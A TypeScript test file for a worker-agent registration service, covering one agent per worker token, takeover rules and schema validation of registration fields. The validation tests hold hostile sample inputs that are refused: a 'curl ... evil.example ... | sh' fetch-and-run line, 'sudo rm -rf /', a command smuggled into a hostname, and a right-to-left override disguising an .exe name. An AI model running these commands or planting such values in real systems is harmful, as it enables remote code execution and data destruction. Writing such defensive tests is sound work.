// One agent process per worker token, and what a registration may carry to the Workers page.
import { describe, expect, it } from "vitest";
import { db } from "../../lib/db/client";
import { env } from "../../lib/env";
import { ZHeartbeat, ZRegisterWorker } from "../../lib/schemas/worker";
import { claimRun } from "../../lib/services/leases/claim";
import { heartbeatWorker } from "../../lib/services/workers/heartbeat-worker";
import { listWorkers } from "../../lib/services/workers/list-workers";
import { registerWorker } from "../../lib/services/workers/register-worker";
import { makeUser } from "../support/factories";
import { makeWorker } from "../support/workers";

const IN_USE = { status: 409, title: "Worker token in use" };
const beat = (w: Awaited<ReturnType<typeof makeWorker>>, instanceId: string, extra: Record<string, unknown> = {}) =>
  heartbeatWorker(w.ctx, w.id, ZHeartbeat.parse({ instanceId, ...extra }));

describe("worker instances", () => {
  it("a second agent with the same token is refused while the first heartbeats, saying where that one runs; a restart of the first is the same worker", async () => {
    const w = await makeWorker();
    const second = registerWorker(w.ctx, ZRegisterWorker.parse({ name: "elsewhere", hostname: "gpu-node-2", instanceId: "second-agent" }));
    await expect(second).rejects.toMatchObject({ ...IN_USE, message: expect.stringMatching(/Another agent is attached with this worker token \(host "gpu-node-1", last heard from \d+ s ago\)\. Stop that agent, or give this machine its own worker token/) });
    await expect(beat(w, "second-agent")).rejects.toMatchObject(IN_USE);
    await expect(claimRun(w.ctx, w.id, undefined, "second-agent")).rejects.toMatchObject(IN_USE);
    // Nothing of the second one reached the worker.
    expect(await db.worker.findUniqueOrThrow({ where: { id: w.id } })).toMatchObject({ hostname: "gpu-node-1", instanceId: w.instanceId });
    expect(await db.worker.count({ where: { tokenId: w.tokenId } })).toBe(1);
    // The first agent restarted (same work dir, so the same instance id): the same worker, updated.
    const again = await registerWorker(w.ctx, ZRegisterWorker.parse({ name: "restarted", hostname: "gpu-node-1", instanceId: w.instanceId, maxRuns: 2 }));
    expect(again.id).toBe(w.id);
    expect((await beat(w, w.instanceId)).removed).toBe(false);
  });

  it("another agent takes the worker over once the first has left or has been silent for the lease TTL; the replaced one is refused from then on", async () => {
    const w = await makeWorker();
    // A clean stop detaches at once.
    await beat(w, w.instanceId, { leaving: true });
    const moved = await registerWorker(w.ctx, ZRegisterWorker.parse({ name: "moved", hostname: "gpu-node-2", instanceId: "moved-agent" }));
    expect(moved.id).toBe(w.id);
    await expect(beat(w, w.instanceId)).rejects.toMatchObject({ ...IN_USE, message: expect.stringMatching(/no longer attached as its worker: another agent \(host "gpu-node-2"\)/) });
    await expect(claimRun(w.ctx, w.id, undefined, w.instanceId)).rejects.toMatchObject(IN_USE);
    // The one attached now is silent for longer than the lease TTL (its runs are being requeued): the first may come back.
    await expect(registerWorker(w.ctx, ZRegisterWorker.parse({ name: "back", instanceId: w.instanceId }))).rejects.toMatchObject(IN_USE);
    await db.worker.update({ where: { id: w.id }, data: { lastHeartbeatAt: new Date(Date.now() - (env().LEASE_TTL_SECONDS + 5) * 1000) } });
    expect((await registerWorker(w.ctx, ZRegisterWorker.parse({ name: "back", instanceId: w.instanceId }))).id).toBe(w.id);
    await expect(beat(w, "moved-agent")).rejects.toMatchObject(IN_USE);
  });

  it("a registration carries facts, not text to show: free text, commands and control characters are refused, naming the field", async () => {
    const base = { name: "w", instanceId: "agent-0001" };
    const refused = (extra: Record<string, unknown>) => ZRegisterWorker.safeParse({ ...base, ...extra }).error?.issues.map((i) => i.path.join("."));
    expect(refused({ info: { torch: "2.1; curl https://evil.example/x.sh | sh" } })).toEqual(["info.torch"]);
    expect(refused({ info: { python: "/usr/bin/python3 3.11.2" } })).toEqual(["info.python"]);
    expect(refused({ info: { torchHint: "sudo rm -rf /" } })).toEqual(["info"]);
    expect(refused({ hostname: "host; reboot" })).toEqual(["hostname"]);
    expect(refused({ name: "gpu\nRun: curl evil | sh" })).toEqual(["name"]);
    expect(refused({ gpus: [{ index: 0, name: "H100\u202egnp.exe", memoryBytes: 1 }] })).toEqual(["gpus.0.name"]);
    expect(refused({ info: { python: "3.11.2", torch: "2.3.0+cu121", cuda: true, apt: false, agentVersion: "0.1.0" } })).toBeUndefined();
  });

  it("free text stored by an older agent never leaves the server: the list keeps only facts that pass today's schema", async () => {
    const w = await makeWorker();
    await db.worker.update({ where: { id: w.id }, data: { info: { cpus: 8, torch: null, torchHint: "curl https://evil.example/x.sh | sh", python: "/usr/bin/python3 3.11" } } });
    const admin = await makeUser("ADMIN");
    const listed = (await listWorkers(admin.actor)).find((x) => x.id === w.id)!;
    expect(listed.info).toEqual({ cpus: 8, torch: null });
  });
});
